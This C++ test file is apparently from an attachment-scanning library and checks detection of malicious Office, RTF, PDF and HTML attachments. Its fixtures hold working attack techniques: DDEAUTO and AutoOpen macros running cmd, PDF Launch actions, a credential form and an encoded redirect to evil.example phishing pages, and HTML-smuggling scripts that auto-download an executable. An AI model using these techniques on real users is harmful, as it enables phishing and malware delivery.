      R"(<worksheet><sheetData><row><c r="A2"><f>SUM(B1:B3)</f></c><c><f>CONCAT("a|'b'","!")</f></c></row></sheetData></worksheet>)");
  expect_clean(clean);
}

TEST(InspectOoxml, MacroEnabledContentTypes) {
  Probe r = ooxml(
      "[Content_Types].xml",
      R"(<Types><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>)");
  EXPECT_TRUE(r.has("DOC_MACRO_ENABLED")) << r.dump();
  Probe clean = ooxml(
      "[Content_Types].xml",
      R"(<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>)");
  expect_clean(clean);
}

// A stored (uncompressed) zip, enough for an OOXML package through the whole chain.
std::string zip(const std::vector<std::pair<std::string, std::string>>& members) {
  std::string out, central;
  for (const auto& member : members) {
    // Named references, not structured bindings: clang 14 cannot capture those in lambdas.
    const std::string& name = member.first;
    const std::string& data = member.second;
    const std::uint32_t crc = static_cast<std::uint32_t>(
        crc32(0, reinterpret_cast<const Bytef*>(data.data()), static_cast<uInt>(data.size())));
    const std::uint32_t offset = static_cast<std::uint32_t>(out.size());
    auto header = [&](std::string& h, bool central_entry) {
      put32(h, central_entry ? 0x02014b50 : 0x04034b50);
      if (central_entry) put16(h, 20);
      put16(h, 20);
      put16(h, 0);  // flags
      put16(h, 0);  // stored
      put16(h, 0);
      put16(h, 0x21);
      put32(h, crc);
      put32(h, static_cast<std::uint32_t>(data.size()));
      put32(h, static_cast<std::uint32_t>(data.size()));
      put16(h, static_cast<std::uint32_t>(name.size()));
      put16(h, 0);
      if (central_entry) {
        put16(h, 0);
        put16(h, 0);
        put16(h, 0);
        put32(h, 0);
        put32(h, offset);
      }
      h += name;
    };
    header(out, false);
    out += data;
    header(central, true);
  }
  const std::uint32_t cd_offset = static_cast<std::uint32_t>(out.size());
  out += central;
  put32(out, 0x06054b50);
  put16(out, 0);
  put16(out, 0);
  put16(out, static_cast<std::uint32_t>(members.size()));
  put16(out, static_cast<std::uint32_t>(members.size()));
  put32(out, static_cast<std::uint32_t>(central.size()));
  put32(out, cd_offset);
  put16(out, 0);
  return out;
}

TEST(InspectOoxml, ThroughTheChainAsADocx) {
  const std::string doc = zip({
      {"[Content_Types].xml",
       R"(<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>)"},
      {"_rels/.rels",
       R"(<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>)"},
      {"word/document.xml",
       R"(<w:document><w:body><w:p><w:fldSimple w:instr="DDEAUTO cmd &quot;/c calc&quot;"/></w:p></w:body></w:document>)"},
      {"word/_rels/settings.xml.rels",
       R"(<Relationships><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>)"},
      {"word/vbaProject.bin", macro_doc("Sub AutoOpen()\r\nShell \"calc\"\r\nEnd Sub\r\n")},
  });
  Probe r(doc);
  Blob b = r.blob("invoice.docm");
  r.insp->inspect_blob(b);
  EXPECT_TRUE(r.has_at("DOC_MACRO_ENABLED", "[Content_Types].xml")) << r.dump();
  EXPECT_TRUE(r.has_at("DOC_DDE", "word/document.xml")) << r.dump();
  EXPECT_TRUE(r.has_at("DOC_EXTERNAL_TEMPLATE", "settings.xml.rels")) << r.dump();
  EXPECT_TRUE(r.has_at("DOC_VBA_AUTOEXEC", "vbaProject.bin")) << r.dump();
}

// ---------------------------------------------------------------------------------------
// RTF

std::string hex(std::string_view b, std::size_t wrap = 64) {
  static const char* d = "0123456789abcdef";
  std::string out;
  for (std::size_t i = 0; i < b.size(); ++i) {
    if (i && i % wrap == 0) out += "\r\n";
    out += d[static_cast<unsigned char>(b[i]) >> 4];
    out += d[static_cast<unsigned char>(b[i]) & 15];
  }
  return out;
}

std::string ole1_object(std::string_view cls, std::string_view native) {
  std::string o;
  put32(o, 0x00000501);
  put32(o, 2);
  put32(o, static_cast<std::uint32_t>(cls.size() + 1));
  o += cls;
  o += '\0';
  put32(o, 0);
  put32(o, 0);
  put32(o, static_cast<std::uint32_t>(native.size()));
  o += native;
  return o;
}

TEST(InspectRtf, Recognises) {
  EXPECT_TRUE(looks_like_rtf("{\\rtf1\\ansi}"));
  EXPECT_TRUE(looks_like_rtf("{\\rt0 anything"));
  EXPECT_FALSE(looks_like_rtf("\\rtf1"));
  EXPECT_FALSE(looks_like_rtf("{\\r"));
}

TEST(InspectRtf, CleanDocumentRaisesNothing) {
  Probe r(
      "{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Times;}}{\\colortbl;\\red0\\green0\\blue0;}"
      "\\pard Hello \\b world\\b0 \\'e9t\\'e9.\\par{\\field{\\*\\fldinst HYPERLINK "
      "\"https://example.com\"}"
      "{\\fldrslt link}}\\par}");
  inspect_rtf(r.blob("note.rtf"), *r.insp);
  expect_clean(r);
}

TEST(InspectRtf, EquationObjectWithObjupdate) {
  const std::string obj = ole1_object("Equation.3", std::string(60, '\x1c') + "\x08\xc3\x01");
  Probe r(
      "{\\rtf1{\\object\\objemb\\objupdate{\\*\\objclass Equation.3}\\objw380\\objh260"
      "{\\*\\objdata " +
      hex(obj, 30) + "\n}}}");
  inspect_rtf(r.blob("x.rtf"), *r.insp);
  EXPECT_TRUE(r.has("DOC_RTF_OBJECT")) << r.dump();
  EXPECT_NE(r.detail("DOC_RTF_OBJECT").find("Equation.3"), std::string::npos);
  EXPECT_TRUE(r.has("DOC_EQUATION_EDITOR"));
  EXPECT_TRUE(r.has("DOC_RTF_OBJUPDATE"));
  EXPECT_FALSE(r.has("DOC_RTF_OBFUSCATED")) << r.dump();
}

TEST(InspectRtf, EmbeddedOle2GoesToTheChain) {
  const std::string doc = macro_doc("Sub AutoOpen()\r\nShell \"calc\"\r\nEnd Sub\r\n");
  const std::string obj = ole1_object("Word.Document.8", doc);
  Probe r("{\\rtf1\\ansi{\\object\\objemb{\\*\\objclass Word.Document.8}{\\*\\objdata\n" +
          hex(obj) + "}{\\result {\\pict}}}}");
  inspect_rtf(r.blob("x.rtf"), *r.insp);
  EXPECT_TRUE(r.has("DOC_RTF_OBJECT")) << r.dump();
  EXPECT_GE(r.results().blobs, 1u);
  EXPECT_TRUE(r.has_at("DOC_VBA_MACRO", "/object1")) << r.dump();
  EXPECT_TRUE(r.has_at("DOC_VBA_AUTOEXEC", "/object1")) << r.dump();
}

TEST(InspectRtf, PackageObjectBecomesChild) {
  const std::string obj =
      ole1_object("Package", ole10native("evil.exe", "C:\\evil.exe", fake_exe()));
  Probe r("{\\rtf1{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata " + hex(obj) + "}}}");
  inspect_rtf(r.blob("x.rtf"), *r.insp);
  EXPECT_TRUE(r.has("DOC_RTF_OBJECT"));
  EXPECT_TRUE(r.has("DOC_EMBEDDED_PACKAGE")) << r.dump();
  EXPECT_EQ(r.results().blobs, 1u);
}

TEST(InspectRtf, ControlWordsInsideObjdataAreObfuscation) {
  const std::string obj = ole1_object("Equation.3", std::string(40, '\x1c'));
  std::string h = hex(obj, 1000);
  // Word skips an unknown control word in the data; other parsers stop there.
  h.insert(10, "\\bliptag1234 ");
  h.insert(30, " \r\n\t");
  Probe r("{\\rtf1{\\object\\objemb{\\*\\objdata " + h + "}}}");
  inspect_rtf(r.blob(), *r.insp);
  EXPECT_TRUE(r.has("DOC_RTF_OBFUSCATED")) << r.dump();
  EXPECT_TRUE(r.has("DOC_EQUATION_EDITOR")) << r.dump();  // the data still decodes
}

TEST(InspectRtf, DeepNestingAndOddHeader) {
  std::string deep = "{\\rtf1 ";
  for (int i = 0; i < 5000; ++i) deep += '{';
  deep += "x";
  for (int i = 0; i < 5000; ++i) deep += '}';
  deep += '}';
  Probe r(deep);
  inspect_rtf(r.blob(), *r.insp);
  EXPECT_TRUE(r.has("DOC_RTF_OBFUSCATED")) << r.dump();

  Probe h("{\\rt0 {\\object{\\*\\objdata 0105}}}");
  inspect_rtf(h.blob(), *h.insp);
  EXPECT_TRUE(h.has("DOC_RTF_OBFUSCATED")) << h.dump();
}

TEST(InspectRtf, DdeAutoField) {
  Probe r(
      "{\\rtf1{\\field{\\*\\fldinst {\\rtlch DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k "
      "calc\"}}{\\fldrslt x}}}");
  inspect_rtf(r.blob(), *r.insp);
  EXPECT_TRUE(r.has("DOC_DDE")) << r.dump();
  // Line breaks in the source are not text: Word reads "DDEAUTO".
  Probe s("{\\rtf1{\\field{\\*\\fldinst DDE\r\nAUTO cmd}{\\fldrslt x}}}");
  inspect_rtf(s.blob(), *s.insp);
  EXPECT_TRUE(s.has("DOC_DDE")) << s.dump();
  Probe clean("{\\rtf1{\\field{\\*\\fldinst HYPERLINK \"http://x/dde\"}{\\fldrslt x}}}");
  inspect_rtf(clean.blob(), *clean.insp);
  expect_clean(clean);
}

TEST(InspectRtf, BinAndUnterminatedInputsAreBounded) {
  Probe r("{\\rtf1{\\object{\\*\\objdata \\bin999999999 abc");
  inspect_rtf(r.blob(), *r.insp);
  Probe s("{\\rtf1{\\object{\\*\\objdata 01050000020000000b000000457175");
  inspect_rtf(s.blob(), *s.insp);
  Probe t("{\\rtf1\\");
  inspect_rtf(t.blob(), *t.insp);
  SUCCEED();
}

// ---------------------------------------------------------------------------------------
// PDF

std::string pdf(const std::vector<std::string>& objects,
                std::string trailer = "<< /Root 1 0 R >>") {
  std::string out = "%PDF-1.7\n%\xE2\xE3\xCF\xD3\n";
  int n = 0;
  for (const std::string& o : objects) out += std::to_string(++n) + " 0 obj\n" + o + "\nendobj\n";
  out += "trailer\n" + trailer + "\n%%EOF\n";
  return out;
}

std::string stream_obj(std::string dict_entries, std::string_view body) {
  return "<< " + dict_entries + " /Length " + std::to_string(body.size()) + " >>\nstream\n" +
         std::string(body) + "\nendstream";
}

TEST(InspectPdf, Recognises) {
  EXPECT_TRUE(looks_like_pdf("%PDF-1.4\n"));
  EXPECT_TRUE(looks_like_pdf(std::string(1000, ' ') + "%PDF-1.4"));
  EXPECT_FALSE(looks_like_pdf(std::string(1100, ' ') + "%PDF-1.4"));
}

TEST(InspectPdf, CleanDocumentRaisesNothing) {
  const std::string content =
      zlib_compress("BT /F1 12 Tf 72 712 Td (Hello /JavaScript /Launch) Tj ET");
  std::string binary;
  for (int i = 0; i < 3000; ++i) binary += static_cast<char>(i * 13);
  binary += "/JS /AA /Launch";  // raw stream bytes are data, not names
  Probe r(
      pdf({"<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
           "<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
           stream_obj("/Filter /FlateDecode", content),
           "<< /Type /Font /Subtype /Type1 /BaseFont /Times#20Roman >>",
           stream_obj("/Subtype /Image /Width 10", binary),
           "<< /Title (About /OpenAction and \\(/JS\\)) >>"}));
  inspect_pdf(r.blob("report.pdf"), *r.insp);
  expect_clean(r);
}

TEST(InspectPdf, JavaScriptAndOpenAction) {
  Probe r(pdf({"<< /Type /Catalog /OpenAction 2 0 R /Names << /JavaScript 3 0 R >> >>",
               "<< /S /JavaScript /JS (app.alert\\(1\\)) >>", "<< /Names [(a) 2 0 R] >>"}));
  inspect_pdf(r.blob(), *r.insp);
  EXPECT_TRUE(r.has("PDF_JAVASCRIPT")) << r.dump();
  EXPECT_TRUE(r.has("PDF_OPEN_ACTION"));
  EXPECT_FALSE(r.has("PDF_OBFUSCATED_NAME"));
}

TEST(InspectPdf, EscapedNames) {
  Probe r(pdf({"<< /Type /Catalog /Open#41ction << /S /J#61vaScript /J#53 (x) >> >>"}));
  inspect_pdf(r.blob(), *r.insp);
  EXPECT_TRUE(r.has("PDF_OBFUSCATED_NAME")) << r.dump();
  EXPECT_NE(r.detail("PDF_OBFUSCATED_NAME").find("J#61vaScript"), std::string::npos) << r.dump();
  EXPECT_TRUE(r.has("PDF_JAVASCRIPT"));
  EXPECT_TRUE(r.has("PDF_OPEN_ACTION"));
}

TEST(InspectPdf, ActionsHiddenInObjectStream) {
  const std::string objs =
      "3 0 4 60 << /Type /Catalog /OpenAction 4 0 R /AcroForm << /XFA 9 0 R >> >> "
      "<< /S /Launch /F (cmd.exe) /AA << /O << /S /SubmitForm /F (https://x) >> >> >>";
  const std::string z = zlib_compress(objs);
  const std::string file =
      pdf({stream_obj("/Type /ObjStm /N 2 /First 8 /Filter /FlateDecode", z)}, "<< /Root 3 0 R >>");
  ASSERT_EQ(file.find("OpenAction"), std::string::npos);
  Probe r(file);
  inspect_pdf(r.blob(), *r.insp);
  EXPECT_TRUE(r.has("PDF_OPEN_ACTION")) << r.dump();
  EXPECT_TRUE(r.has("PDF_LAUNCH"));
  EXPECT_TRUE(r.has("PDF_AUTO_ACTION"));
  EXPECT_TRUE(r.has("PDF_SUBMIT_FORM"));
  EXPECT_TRUE(r.has("PDF_XFA"));
  EXPECT_GT(r.results().expanded_bytes, 0u);
}

TEST(InspectPdf, StackedFilters) {
  const std::string z = zlib_compress("1 0 << /Launch << /F (calc.exe) >> >>");
  std::string hexed;
  for (unsigned char c : z) {
    static const char* d = "0123456789ABCDEF";
    hexed += d[c >> 4];
    hexed += d[c & 15];
    hexed += ' ';
  }
  Probe r(
      pdf({stream_obj("/Type /ObjStm /N 1 /First 4 /Filter [/AHx /FlateDecode]", hexed + ">")}));
  inspect_pdf(r.blob(), *r.insp);
  EXPECT_TRUE(r.has("PDF_LAUNCH")) << r.dump();
  // ASCII85 of "1 0 << /AA << >> >>" (with the final partial group), no compression.
  Probe a(pdf({stream_obj("/Type /ObjStm /N 1 /First 4 /Filter /ASCII85Decode",
                          "0d&.m4?O`>5sZVU4<QgO+?hs~>")}));
  inspect_pdf(a.blob(), *a.insp);
  EXPECT_TRUE(a.has("PDF_AUTO_ACTION")) << a.dump();
}

TEST(InspectPdf, ObjectStreamWithIndirectLengthAndNoEol) {
  // /Length as a reference: the stream ends at "endstream".
  const std::string z = zlib_compress("1 0 << /OpenAction << /S /JavaScript /JS (x) >> >>");
  const std::string file =
      "%PDF-1.5\n1 0 obj << /Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode] /Length 9 0 R "
      ">>stream\r\n" +
      z + "endstream endobj\n9 0 obj " + std::to_string(z.size()) + " endobj\n";
  Probe r(file);
  inspect_pdf(r.blob(), *r.insp);
  EXPECT_TRUE(r.has("PDF_OPEN_ACTION")) << r.dump();
  EXPECT_TRUE(r.has("PDF_JAVASCRIPT"));
}

TEST(InspectPdf, ObjectsSwallowedByAStreamAreStillSeen) {
  // A /Length covering the next objects (readers find them through the xref), and a stream
  // with no end at all.
  const std::string hidden = "\n9 0 obj << /OpenAction << /S /JavaScript /JS (x) >> >> endobj\n";
  Probe r("%PDF-1.4\n1 0 obj " + stream_obj("", "q 1 0 0 1 0 0 cm Q" + hidden) + " endobj\n");
  inspect_pdf(r.blob(), *r.insp);
  EXPECT_TRUE(r.has("PDF_OPEN_ACTION")) << r.dump();
  Probe u("%PDF-1.4\n1 0 obj << /Length 5 >>\nstream\nxx" + hidden);
  inspect_pdf(u.blob(), *u.insp);
  EXPECT_TRUE(u.has("PDF_JAVASCRIPT")) << u.dump();
}

TEST(InspectPdf, EmbeddedFileIsExtracted) {
  const std::string exe = fake_exe();
  Probe r(pdf({"<< /Type /Catalog /Names << /EmbeddedFiles << /Names [(a) 2 0 R] >> >> >>",
               "<< /Type /Filespec /F (invoice.exe) /UF (invoice.exe) /EF << /F 3 0 R >> >>",
               stream_obj("/Type /EmbeddedFile /Filter /FlateDecode", zlib_compress(exe)),
               "<< /Type /Filespec /F (notes.txt) /EF << /F 5 0 R >> >>",
               stream_obj("/Params << /ModDate null >> /Hidden true /Type /EmbeddedFile",
                          "plain text\n")}));
  inspect_pdf(r.blob("doc.pdf"), *r.insp);
  EXPECT_TRUE(r.has("PDF_EMBEDDED_FILE")) << r.dump();
  EXPECT_EQ(r.results().blobs, 2u) << r.dump();
  EXPECT_TRUE(r.has_at("FILE_DANGEROUS_TYPE", "/invoice.exe") ||
              r.has_at("FILE_DANGEROUS_EXT", "/invoice.exe"))
      << r.dump();
}

TEST(InspectPdf, UriActionsAndRichMedia) {
  Probe r(
      pdf({"<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://evil.example/a) >> >>",
           "<< /A << /S /URI /URI (https://evil.example/b) >> >>", "<< /Subtype /RichMedia >>"}));
  inspect_pdf(r.blob(), *r.insp);
  EXPECT_TRUE(r.has("PDF_URI")) << r.dump();
  EXPECT_NE(r.detail("PDF_URI").find("2 URI"), std::string::npos);
  EXPECT_NE(r.detail("PDF_URI").find("evil.example/b"), std::string::npos);
  EXPECT_TRUE(r.has("PDF_RICHMEDIA"));
  // The links join the message's URLs for the URL checks.
  EXPECT_EQ(r.results().urls, (std::vector<std::string>{"https://evil.example/a", "https://evil.example/b"}));
}

TEST(InspectPdf, MalformedInputsAreBounded) {
  const std::string z = zlib_compress(std::string(1 << 20, 'A'));
  const std::string good = pdf({stream_obj("/Type /ObjStm /N 1 /First 2 /Filter /FlateDecode", z),
                                "<< /OpenAction << /JS (x) >> >>"});
  for (std::size_t n = 0; n < good.size(); n += 11) {
    Probe r(good.substr(0, n));
    inspect_pdf(r.blob(), *r.insp);
  }
  std::string nested = "%PDF-1.1\n1 0 obj ";
  for (int i = 0; i < 10000; ++i) nested += "<< /A [ ";
  nested += "(((((((( \\";
  Probe r(nested);
  inspect_pdf(r.blob(), *r.insp);
  // A bomb: the budget stops inflation.
  Probe b(pdf({stream_obj("/Type /ObjStm /N 1 /First 2 /Filter /FlateDecode",
                          zlib_compress(std::string(8 << 20, '\0')))}));
  b.limits->max_expanded_bytes = 1 << 20;
  b.insp = std::make_unique<Inspector>(engines(), *b.limits);
  inspect_pdf(b.blob(), *b.insp);
  EXPECT_TRUE(b.has("INSPECT_LIMIT_EXPANDED_BYTES")) << b.dump();
}

// ---------------------------------------------------------------------------------------
// HTML attachments

std::string base64(std::string_view in) {
  static const char* t = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string out;
  std::size_t i = 0;
  for (; i + 2 < in.size(); i += 3) {
    const std::uint32_t v = (static_cast<unsigned char>(in[i]) << 16) |
                            (static_cast<unsigned char>(in[i + 1]) << 8) |
                            static_cast<unsigned char>(in[i + 2]);
    out += t[v >> 18];
    out += t[(v >> 12) & 63];
    out += t[(v >> 6) & 63];
    out += t[v & 63];
  }
  if (i < in.size()) {
    std::uint32_t v = static_cast<unsigned char>(in[i]) << 16;
    if (i + 1 < in.size()) v |= static_cast<unsigned char>(in[i + 1]) << 8;
    out += t[v >> 18];
    out += t[(v >> 12) & 63];
    out += i + 1 < in.size() ? t[(v >> 6) & 63] : '=';
    out += '=';
  }
  return out;
}

TEST(InspectHtml, CleanPageRaisesNothing) {
  Probe r(
      "<!doctype html><html><head><title>Invoice</title><style>p{color:red}</style></head>"
      "<body><p>Hello</p><a href=\"https://example.com\">x</a><img src=\"data:image/png;base64," +
      base64(std::string(3000, 'p')) + "\"></body></html>");
  inspect_html_attachment(r.blob("invoice.html"), *r.insp);
  expect_clean(r);
}

TEST(InspectHtml, ScriptsAndHandlers) {
  Probe r(
      "<html><body onload=\"go()\"><script>function go(){}</script>"
      "<a href=\"javascript:go()\">x</a></body></html>");
  inspect_html_attachment(r.blob("a.html"), *r.insp);
  EXPECT_TRUE(r.has("HTML_ATTACH_SCRIPT")) << r.dump();
  EXPECT_NE(r.detail("HTML_ATTACH_SCRIPT").find("onload"), std::string::npos);
  EXPECT_FALSE(r.has("HTML_SMUGGLING"));
}

TEST(InspectHtml, CredentialForms) {
  Probe r(
      "<html><body><form method=post action=\"https://evil.example/login.php\">"
      "<input name=u><INPUT TYPE = 'Password' name=p></form></body></html>");
  inspect_html_attachment(r.blob("login.htm"), *r.insp);
  EXPECT_TRUE(r.has("HTML_ATTACH_CREDENTIAL_FORM")) << r.dump();
  EXPECT_NE(r.detail("HTML_ATTACH_CREDENTIAL_FORM").find("https://evil.example/login.php"),
            std::string::npos);
  Probe e("<form action=\"&#104;ttps://evil.example/x\"><input name=q></form>");
  inspect_html_attachment(e.blob("x.html"), *e.insp);
  EXPECT_TRUE(e.has("HTML_ATTACH_CREDENTIAL_FORM")) << e.dump();
  Probe local("<form action=\"#\"><input name=q></form>");
  inspect_html_attachment(local.blob("x.html"), *local.insp);
  expect_clean(local);
}

// The attachment as a link in disguise: it navigates away as it opens. The target, even
// base64-encoded for atob(), joins the message's URLs; so does a password form's action.
TEST(InspectHtml, RedirectsAndTheirTargets) {
  Probe r("<html><script>var e='alice@example.org';\nwindow.location.href = atob(\"" +
          base64("https://login.evil.example/o365/") + "\") + '#' + e;</script></html>");
  inspect_html_attachment(r.blob("Remittance.html"), *r.insp);
  EXPECT_TRUE(r.has("HTML_ATTACH_REDIRECT")) << r.dump();
  EXPECT_NE(r.detail("HTML_ATTACH_REDIRECT").find("location.href to https://login.evil.example/o365/"),
            std::string::npos)
      << r.dump();
  EXPECT_EQ(r.results().urls, std::vector<std::string>{"https://login.evil.example/o365/"});

  Probe meta("<html><head><meta http-equiv=\"Refresh\" content=\"0; URL='https://evil.example/r?id=7'\"></head></html>");
  inspect_html_attachment(meta.blob("fax.htm"), *meta.insp);
  EXPECT_NE(meta.detail("HTML_ATTACH_REDIRECT").find("meta refresh to https://evil.example/r?id=7"), std::string::npos)
      << meta.dump();

  Probe literal("<script>document.location = \"https://198.51.100.4/x?u=\" + user;</script>");
  inspect_html_attachment(literal.blob("scan.html"), *literal.insp);
  EXPECT_EQ(literal.results().urls, std::vector<std::string>{"https://198.51.100.4/x?u="});

  Probe form("<form action=\"https://evil.example/post.php\"><input type=password name=p></form>");
  inspect_html_attachment(form.blob("login.html"), *form.insp);
  EXPECT_FALSE(form.has("HTML_ATTACH_REDIRECT"));
  EXPECT_EQ(form.results().urls, std::vector<std::string>{"https://evil.example/post.php"});

  // Scripts that do not navigate, and plain links, add nothing.
  Probe calm("<script>function total(){return 1+1;}</script><a href=\"https://example.com/\">home</a>");
  inspect_html_attachment(calm.blob("report.html"), *calm.insp);
  EXPECT_FALSE(calm.has("HTML_ATTACH_REDIRECT"));
  EXPECT_TRUE(calm.results().urls.empty());
}

// SVG files start with an XML declaration, comments and a DOCTYPE; the browser still runs
// their scripts, so the chain must see HTML-like content behind that prolog.
TEST(InspectHtml, SvgBehindAnXmlPrologIsInspected) {
  Probe r("\xEF\xBB\xBF<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"no\"?>\n<!-- Generator: x -->\n"
          "<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\" "
          "[ <!ENTITY a \"b\"> ]>\n<svg xmlns=\"http://www.w3.org/2000/svg\"><script><![CDATA[ "
          "top.location.replace('https://evil.example/vm') ]]></script></svg>");
  r.insp->inspect_blob(r.blob("VM_0412.svg"));
  EXPECT_TRUE(r.has("HTML_ATTACH_SCRIPT")) << r.dump();
  EXPECT_TRUE(r.has("HTML_ATTACH_REDIRECT")) << r.dump();
  EXPECT_EQ(r.results().urls, std::vector<std::string>{"https://evil.example/vm"});
  // A plain SVG drawing is not active content.
  Probe logo("<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><circle r=\"4\"/></svg>");
  logo.insp->inspect_blob(logo.blob("logo.svg"));
  EXPECT_FALSE(logo.has("HTML_ATTACH_SCRIPT")) << logo.dump();
}

TEST(InspectHtml, SmugglingSplitBase64) {
  const std::string b64 = base64(fake_exe(3000));
  std::string pieces;
  for (std::size_t i = 0; i < b64.size(); i += 150) {
    if (i) pieces += "\" +\n    \"";
    pieces += b64.substr(i, 150);
  }
  Probe r("<html><body><script>\nvar data = \"" + pieces +
          "\";\nvar bin = atob(data); var arr = new Uint8Array(bin.length);\n"
          "for (var i = 0; i < bin.length; i++) arr[i] = bin.charCodeAt(i);\n"
          "var blob = new Blob([arr], {type: 'application/octet-stream'});\n"
          "var a = document.createElement('a'); a.href = URL.createObjectURL(blob);\n"
          "a.download = \"invoice.exe\"; document.body.appendChild(a); "
          "a.click();\n</script></body></html>");
  inspect_html_attachment(r.blob("invoice.html"), *r.insp);
  EXPECT_TRUE(r.has("HTML_SMUGGLING")) << r.dump();
  EXPECT_EQ(r.results().blobs, 1u);
  EXPECT_TRUE(r.has_at("FILE_DANGEROUS_TYPE", "/invoice.exe") ||
              r.has_at("FILE_DANGEROUS_EXT", "/invoice.exe"))
      << r.dump();
}

TEST(InspectHtml, SmugglingWithPlusEqualsAndDefaultName) {
  const std::string b64 = base64(fake_exe(2400));
  std::string js = "var p = '';\n";
  for (std::size_t i = 0; i < b64.size(); i += 200) js += "p += '" + b64.substr(i, 200) + "';\n";
  js +=
      "window.navigator.msSaveOrOpenBlob(new Blob([Uint8Array.from(atob(p), c => "
      "c.charCodeAt(0))]));";
  Probe r("<html><script>" + js + "</script></html>");
  inspect_html_attachment(r.blob("x.html"), *r.insp);
  EXPECT_TRUE(r.has("HTML_SMUGGLING")) << r.dump();
  EXPECT_TRUE(r.has_at("FILE_DANGEROUS_TYPE", "/smuggled.bin")) << r.dump();
}

TEST(InspectHtml, DataUriBuiltInScript) {
  Probe r("<html><script>var u = \"data:application/octet-stream;base64," + base64(fake_exe(1500)) +
          "\"; var a = document.createElement('a'); a.href = u; "
          "a.download = 'update.exe'; a.click();</script></html>");
  inspect_html_attachment(r.blob("x.html"), *r.insp);
  EXPECT_TRUE(r.has("HTML_SMUGGLING")) << r.dump();
  EXPECT_TRUE(r.has_at("FILE_DANGEROUS_TYPE", "/update.exe")) << r.dump();
}

TEST(InspectHtml, DataUriDownload) {
  Probe r("<html><body><a href=\"data:application/octet-stream;base64," + base64(fake_exe(600)) +
          "\" download=\"scan.exe\">Download</a></body></html>");
  inspect_html_attachment(r.blob("x.html"), *r.insp);
  EXPECT_TRUE(r.has("HTML_SMUGGLING")) << r.dump();
  EXPECT_EQ(r.results().blobs, 1u);
  EXPECT_TRUE(r.has_at("FILE_DANGEROUS_TYPE", "/scan.exe") ||
              r.has_at("FILE_DANGEROUS_EXT", "/scan.exe"))
      << r.dump();
}

TEST(InspectHtml, HostileMarkupIsLinear) {
  std::string s;
  for (int i = 0; i < 200000; ++i) s += "<a download x='";
  std::string t = "<script>";
  for (int i = 0; i < 200000; ++i) t += "'A'+";
  const auto t0 = std::chrono::steady_clock::now();
  Probe r(s);
  inspect_html_attachment(r.blob("x.html"), *r.insp);
  Probe q(t);
  inspect_html_attachment(q.blob("x.html"), *q.insp);
  EXPECT_LT(std::chrono::steady_clock::now() - t0, std::chrono::seconds(5));
}

}  // namespace
}  // namespace bulwark::inspect
